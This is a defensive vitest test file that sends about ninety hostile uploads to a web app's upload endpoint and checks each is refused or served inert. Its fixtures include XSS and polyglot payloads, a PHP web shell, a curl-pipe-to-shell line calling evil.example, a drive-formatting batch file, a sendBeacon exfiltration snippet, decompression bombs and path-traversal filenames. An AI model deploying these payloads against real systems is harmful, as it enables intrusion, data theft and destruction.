import crypto from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { files } from '../src/db/schema';
import { createTestApp, type TTestApp } from './harness';
import { downloadFile } from './accounts-helpers';
import { makePerson } from './deliveries-helpers';
import { signInAs } from './sessions';

/**
 * Hostile uploads (issue 17): files built to run in a browser, to exhaust a decoder or to
 * escape the storage directory. Each one must be refused, or stored and served so that no
 * browser runs it: the type we sniffed, nosniff, attachment unless a plain picture, a sandbox CSP.
 */
let t: TTestApp;
let person: { id: number; token: string };
let editor: string;

// ---------- builders ----------

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A greyscale PNG claiming width × height; `idat` defaults to one deflated row. */
function png(width: number, height: number, extra: Buffer[] = [], idat?: Buffer): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width >>> 0, 0);
  ihdr.writeUInt32BE(height >>> 0, 4);
  ihdr[8] = 8;
  ihdr[9] = 0;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    ...extra,
    pngChunk('IDAT', idat ?? zlib.deflateSync(Buffer.alloc(1 + Math.min(width, 64)))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG: JFIF, an optional comment, a frame header of width × height, end. */
function jpeg(width: number, height: number, comment?: string): Buffer {
  const parts = [
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
  ];
  if (comment) {
    const text = Buffer.from(comment);
    const len = Buffer.alloc(2);
    len.writeUInt16BE(text.length + 2);
    parts.push(Buffer.from([0xff, 0xfe]), len, text);
  }
  const sof = Buffer.from([0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x11, 0, 2, 0x11, 1, 3, 0x11, 1]);
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  parts.push(sof, Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}

/** A zip whose entries are deflated (method 8) or stored; sizes as declared. */
function zip(entries: Array<[string, Buffer]>, deflate = true): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of entries) {
    const body = deflate ? zlib.deflateRawSync(data, { level: 9 }) : data;
    const nameBuf = Buffer.from(name);
    const crc = zlib.crc32(data);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(deflate ? 8 : 0, 8);
    h.writeUInt32LE(crc, 14);
    h.writeUInt32LE(body.length, 18);
    h.writeUInt32LE(data.length, 22);
    h.writeUInt16LE(nameBuf.length, 26);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(deflate ? 8 : 0, 10);
    c.writeUInt32LE(crc, 16);
    c.writeUInt32LE(body.length, 20);
    c.writeUInt32LE(data.length, 24);
    c.writeUInt16LE(nameBuf.length, 28);
    c.writeUInt32LE(offset, 42);
    locals.push(h, nameBuf, body);
    centrals.push(c, nameBuf);
    offset += 30 + nameBuf.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';

const SCRIPT = '<script>alert(document.cookie)</script>';
const HTML = Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`);
const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`);
const XML_SVG = Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`);
const GIF_JS = Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//');
const PDF_HTML = Buffer.from(`%PDF-1.4\n<html><body>${SCRIPT}</body></html>\n%%EOF\n`);
const HTML_PDF = Buffer.from(`<html>${SCRIPT}</html>\n%PDF-1.4\n%%EOF\n`);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]);
const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
]);
const SHELL = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const BAT = Buffer.from('@echo off\r\nformat c: /q\r\n');
const PHP = Buffer.from(`<?php system($_GET['c']); ?>`);
const JS = Buffer.from('fetch("/api/getInfo").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))');
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const PDF_JS = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);
const ZEROS_64M = Buffer.alloc(64 * 1024 * 1024);
const ZIP_BOMB = zip([['bomb.txt', ZEROS_64M]]);
const DOCX_BOMB = zip([
  ['[Content_Types].xml', Buffer.from(CONTENT_TYPES)],
  ['word/document.xml', ZEROS_64M],
]);
const NESTED_ZIP = zip([['inner.zip', ZIP_BOMB]], false);
const GZIP_BOMB = zlib.gzipSync(ZEROS_64M, { level: 9 });
/** 20,000 × 20,000 of zero rows, deflated: a few hundred KB that decode to 400 MB. */
const PNG_BOMB = png(20_000, 20_000, [], zlib.deflateSync(Buffer.alloc(20_001 * 2_000)));
const OVERSIZE = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(5 * 1024 * 1024 + 1, 0x20)]);

type TCase = { name: string; filename: string; content: Buffer; kind?: string; staff?: boolean };

const cases: TCase[] = [
  // Polyglots and script-bearing documents.
  { name: 'GIF/JS polyglot as .gif', filename: 'x.gif', content: GIF_JS },
  { name: 'GIF/JS polyglot as .png', filename: 'x.png', content: GIF_JS },
  { name: 'GIF/JS polyglot as .jpg', filename: 'x.jpg', content: GIF_JS },
  { name: 'GIF/JS polyglot as .txt', filename: 'x.txt', content: GIF_JS },
  { name: 'GIF/JS polyglot as .js', filename: 'x.js', content: GIF_JS },
  { name: 'PDF/HTML polyglot as .pdf', filename: 'x.pdf', content: PDF_HTML },
  { name: 'PDF/HTML polyglot as .html', filename: 'x.html', content: PDF_HTML },
  { name: 'HTML/PDF polyglot as .pdf', filename: 'y.pdf', content: HTML_PDF },
  { name: 'PDF with OpenAction JavaScript', filename: 'js.pdf', content: PDF_JS },
  { name: 'PDF with JavaScript uploaded for content', filename: 'js2.pdf', content: PDF_JS, staff: true },
  {
    name: 'PNG with HTML in a text chunk',
    filename: 'chunk.png',
    content: png(2, 2, [pngChunk('tEXt', Buffer.from(`c\0${SCRIPT}`))]),
  },
  {
    name: 'JPEG with HTML in a comment',
    filename: 'comment.jpg',
    content: jpeg(2, 2, `<html>${SCRIPT}</html>`),
  },
  { name: 'PNG followed by HTML', filename: 'tail.png', content: Buffer.concat([png(2, 2), HTML]) },
  { name: 'HTML followed by PNG', filename: 'head.png', content: Buffer.concat([HTML, png(2, 2)]) },
  { name: 'SVG with script as .svg', filename: 'x.svg', content: SVG },
  { name: 'SVG with script as .png', filename: 'svg.png', content: SVG },
  { name: 'SVG with script as .txt', filename: 'svg.txt', content: SVG },
  { name: 'XML SVG with script as .txt', filename: 'xsvg.txt', content: XML_SVG },
  { name: 'SVG as image kind .svg', filename: 'k.svg', content: SVG, kind: 'image' },
  { name: 'HTML as .html', filename: 'x.html', content: HTML },
  { name: 'HTML as .htm', filename: 'x.htm', content: HTML },
  { name: 'HTML as .xhtml', filename: 'x.xhtml', content: HTML },
  { name: 'HTML as .txt', filename: 'html.txt', content: HTML },
  { name: 'HTML as .pdf', filename: 'html.pdf', content: HTML },
  { name: 'HTML as .png', filename: 'html.png', content: HTML },
  { name: 'HTML as .docx', filename: 'html.docx', content: HTML },
  {
    name: 'HTML with UTF-8 BOM as .txt',
    filename: 'bom.txt',
    content: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), HTML]),
  },
  {
    name: 'HTML in UTF-16 as .txt',
    filename: 'u16.txt',
    content: Buffer.from(`\ufeff${HTML.toString()}`, 'utf16le'),
  },
  { name: 'JavaScript as .js', filename: 'x.js', content: JS },
  { name: 'JavaScript as .txt', filename: 'js.txt', content: JS },
  { name: 'JavaScript as .jpg', filename: 'js.jpg', content: JS },
  // Renamed executables and scripts.
  { name: 'ELF as .pdf', filename: 'elf.pdf', content: ELF },
  { name: 'ELF as .png', filename: 'elf.png', content: ELF },
  { name: 'ELF as .txt', filename: 'elf.txt', content: ELF },
  { name: 'ELF as .docx', filename: 'elf.docx', content: ELF },
  { name: 'ELF without extension', filename: 'elf', content: ELF },
  { name: 'PE as .exe', filename: 'setup.exe', content: PE },
  { name: 'PE as .doc', filename: 'pe.doc', content: PE },
  { name: 'PE as .jpg', filename: 'pe.jpg', content: PE },
  { name: 'PE as .txt', filename: 'pe.txt', content: PE },
  { name: 'PE double extension', filename: 'cv.pdf.exe', content: PE },
  { name: 'shell script as .sh', filename: 'x.sh', content: SHELL },
  { name: 'shell script as .pdf', filename: 'sh.pdf', content: SHELL },
  { name: 'shell script as .txt', filename: 'sh.txt', content: SHELL },
  { name: 'batch file as .bat', filename: 'x.bat', content: BAT },
  { name: 'PHP as .php', filename: 'x.php', content: PHP },
  { name: 'PHP as .png', filename: 'php.png', content: PHP },
  { name: 'PHP as .PHP upper case', filename: 'X.PHP', content: PHP },
  { name: 'htaccess', filename: '.htaccess', content: Buffer.from('AddType application/x-httpd-php .png') },
  // Decompression bombs.
  { name: 'zip bomb as .zip', filename: 'bomb.zip', content: ZIP_BOMB },
  { name: 'zip bomb as .docx', filename: 'bomb.docx', content: ZIP_BOMB },
  { name: 'zip bomb as .xlsx', filename: 'bomb.xlsx', content: ZIP_BOMB },
  { name: 'OOXML-shaped zip bomb as .docx', filename: 'ooxml-bomb.docx', content: DOCX_BOMB },
  { name: 'nested zip bomb as .docx', filename: 'nested.docx', content: NESTED_ZIP },
  { name: 'gzip bomb as .gz', filename: 'bomb.gz', content: GZIP_BOMB },
  { name: 'gzip bomb as .txt', filename: 'gz.txt', content: GZIP_BOMB },
  { name: 'gzip bomb as .pdf', filename: 'gz.pdf', content: GZIP_BOMB },
  { name: 'PNG decompression bomb 20,000²', filename: 'bomb.png', content: PNG_BOMB },
  { name: 'PNG decompression bomb as private file', filename: 'bomb2.png', content: PNG_BOMB, kind: 'file' },
  // Absurd dimensions.
  { name: 'PNG 50,000 × 50,000', filename: 'huge.png', content: png(50_000, 50_000) },
  { name: 'PNG 100,000 × 1', filename: 'wide.png', content: png(100_000, 1) },
  { name: 'PNG 1 × 100,000', filename: 'tall.png', content: png(1, 100_000) },
  { name: 'PNG 2^31-1 square', filename: 'max.png', content: png(2 ** 31 - 1, 2 ** 31 - 1) },
  { name: 'PNG 0 × 0', filename: 'zero.png', content: png(0, 0) },
  { name: 'PNG 9,000 × 9,000 (81 MP)', filename: 'mp.png', content: png(9_000, 9_000) },
  { name: 'JPEG 65,535 × 65,535', filename: 'huge.jpg', content: jpeg(65_535, 65_535) },
  { name: 'JPEG 0 × 0', filename: 'zero.jpg', content: jpeg(0, 0) },
  {
    name: 'JPEG without a frame header',
    filename: 'noframe.jpg',
    content: Buffer.from([0xff, 0xd8, 0xff, 0xd9]),
  },
  {
    name: 'huge PNG as private picture',
    filename: 'huge-file.png',
    content: png(50_000, 50_000),
    kind: 'file',
  },
  // Names.
  { name: 'null byte in the name', filename: 'cv.pdf\u0000.html', content: PDF },
  { name: 'encoded null byte in the name', filename: 'cv.pdf%00.html', content: PDF },
  { name: 'path parts ../', filename: '../../../../etc/cron.d/evil.pdf', content: PDF },
  { name: 'path parts ..\\', filename: '..\\..\\windows\\win.ini.txt', content: Buffer.from('[x]\n') },
  { name: 'absolute path', filename: '/var/lib/rcwb/files/owned.pdf', content: PDF },
  { name: 'name only ..', filename: '..', content: PDF },
  { name: 'name only .pdf', filename: '.pdf', content: PDF },
  { name: 'quote and semicolon in the name', filename: 'a";filename=evil.html;x=".pdf', content: PDF },
  { name: 'right-to-left override in the name', filename: 'cv\u202Efdp.exe', content: PE },
  { name: 'control character in the name', filename: 'a\u0007b.pdf', content: PDF },
  { name: 'name of 300 characters', filename: `${'a'.repeat(296)}.pdf`, content: PDF },
  { name: 'comma in the name', filename: 'a,b.pdf', content: PDF },
  // Empty, oversize, wrong extension.
  { name: 'empty .pdf', filename: 'empty.pdf', content: Buffer.alloc(0) },
  { name: 'empty .png', filename: 'empty.png', content: Buffer.alloc(0) },
  { name: 'empty .txt', filename: 'empty.txt', content: Buffer.alloc(0) },
  { name: 'oversize PDF (5 MB + 1)', filename: 'big.pdf', content: OVERSIZE },
  { name: 'PNG as .pdf', filename: 'png.pdf', content: png(2, 2) },
  { name: 'PDF as .png', filename: 'pdf.png', content: PDF },
  { name: 'JPEG as .docx', filename: 'jpg.docx', content: jpeg(2, 2) },
  { name: 'PDF as .docx', filename: 'pdf.docx', content: PDF },
  { name: 'PDF as image kind', filename: 'k.pdf', content: PDF, kind: 'image' },
  { name: 'text as .xls', filename: 'x.xls', content: Buffer.from('a,b\n1,2\n') },
  {
    name: 'macro document .docm',
    filename: 'x.docm',
    content: zip([['[Content_Types].xml', Buffer.from(CONTENT_TYPES)]]),
  },
];

// ---------- upload and serve ----------

async function upload(c: TCase) {
  const boundary = `----rcwb${crypto.randomBytes(8).toString('hex')}`;
  const fields: Record<string, string> = {
    sm4Str: t.api.cipher.encrypt(JSON.stringify({ size: c.content.length })),
    ...(c.kind ? { kind: c.kind } : {}),
  };
  const head = Object.entries(fields).map(([name, value]) =>
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
  );
  const res = await t.app.inject({
    method: 'POST',
    url: '/api/upload/upload',
    headers: {
      'content-type': `multipart/form-data; boundary=${boundary}`,
      authorization: `Bearer ${c.staff ? editor : person.token}`,
      'accept-language': 'en',
    },
    payload: Buffer.concat([
      ...head,
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="`),
      Buffer.from(c.filename, 'utf8'),
      Buffer.from('"\r\nContent-Type: text/html\r\n\r\n'),
      c.content,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  });
  let body: { success?: boolean; data?: string; attributes?: { id: string } } = {};
  try {
    body = res.json();
  } catch {
    // a transport refusal without a JSON body still counts as refused
  }
  return { status: res.statusCode, body };
}

/** Types a browser renders as a page or runs; none may ever be served. */
const ACTIVE =
  /^(text\/html|application\/xhtml\+xml|image\/svg\+xml|text\/xml|application\/xml|text\/javascript|application\/(x-)?javascript|application\/ecmascript|application\/x-sh|application\/octet-stream|multipart\/)/i;
/** What a download may be: the stored types of the accepted formats, nothing else. */
const SERVED = new Set([
  'image/png',
  'image/jpeg',
  'application/pdf',
  'text/plain',
  'application/msword',
  'application/vnd.ms-excel',
  'application/vnd.ms-powerpoint',
  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  'application/vnd.openxmlformats-officedocument.presentationml.presentation',
]);
/** Served inline only: plain pictures (a PDF downloads as an attachment here). */
const INLINE_OK = new Set(['image/png', 'image/jpeg', 'application/pdf']);

function assertInert(res: { headers: Record<string, unknown> }, storedMime: string, label: string) {
  const type = String(res.headers['content-type'] ?? '');
  expect(type.split(';')[0], label).toBe(storedMime.split(';')[0]);
  expect(type, label).not.toMatch(ACTIVE);
  expect(SERVED.has(type.split(';')[0]!), `${label}: ${type}`).toBe(true);
  expect(res.headers['x-content-type-options'], label).toBe('nosniff');
  const csp = String(res.headers['content-security-policy'] ?? '');
  expect(csp, label).toContain("default-src 'none'");
  expect(csp, label).toContain('sandbox');
  const disposition = String(res.headers['content-disposition'] ?? '');
  if (!disposition.startsWith('attachment')) {
    expect(disposition.startsWith('inline'), label).toBe(true);
    expect(INLINE_OK.has(type.split(';')[0]!), label).toBe(true);
  }
}

beforeAll(async () => {
  // Every case is one upload of one account: the rate limit and quota have their own tests.
  t = await createTestApp({ RCWB_UPLOAD_RATE_PER_MINUTE: '10000', RCWB_UPLOAD_QUOTA_FILES: '10000' });
  person = await makePerson(t, '恶意上传测试');
  editor = await signInAs(t, 'editor');
});
afterAll(() => t.close());

describe('hostile uploads', () => {
  it('refuses or neutralises every hostile file', { timeout: 120_000 }, async () => {
    expect(cases.length).toBeGreaterThanOrEqual(60);
    let refused = 0;
    let neutralised = 0;
    for (const c of cases) {
      const answer = await upload(c);
      if (answer.status !== 200 || !answer.body.success) {
        refused++;
        continue;
      }
      neutralised++;
      const [row] = await t.deps.db.select().from(files).where(eq(files.id, answer.body.attributes!.id));
      // The stored name is a base name without control characters; the bytes live under the key.
      // eslint-disable-next-line no-control-regex
      expect(row!.originalName, c.name).not.toMatch(/[/\\\u0000-\u001f]/);
      const download = await downloadFile(t, person.token, { fileName: `/talent/file/${row!.id}` });
      if (c.staff) expect(download.envelope?.code, c.name).toBe(403);
      else assertInert(download.res, row!.mime, c.name);
      if (row!.kind === 'image') {
        const pub = await t.app.inject({ method: 'GET', url: `/api/files/${row!.storageKey}` });
        expect(pub.statusCode, c.name).toBe(200);
        assertInert(pub, row!.mime, `${c.name} (public URL)`);
      }
    }
    // Nothing refused left a row or bytes behind, and nothing landed outside the files directory.
    const rows = await t.deps.db.select({ id: files.id }).from(files).where(eq(files.ownerId, person.id));
    const staffRows = cases.filter((c) => c.staff).length;
    expect(rows.length).toBeLessThanOrEqual(neutralised);
    expect(rows.length).toBeGreaterThanOrEqual(neutralised - staffRows);
    const stored: string[] = [];
    const walk = async (dir: string) => {
      for (const e of await fs.readdir(dir, { withFileTypes: true }).catch(() => [])) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) await walk(p);
        else stored.push(path.relative(t.config.filesDir, p));
      }
    };
    await walk(t.config.filesDir);
    expect(stored.filter((p) => p.startsWith('tmp'))).toEqual([]);
    expect(stored).toHaveLength(neutralised);
    for (const p of stored) expect(p, p).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{32}$/);
    await expect(fs.stat('/etc/cron.d/evil.pdf')).rejects.toThrow();
    console.log(
      `uploads: ${cases.length} hostile files, ${refused} refused, ${neutralised} stored and served inert, 0 served to run`,
    );
    expect(refused + neutralised).toBe(cases.length);
  });
});
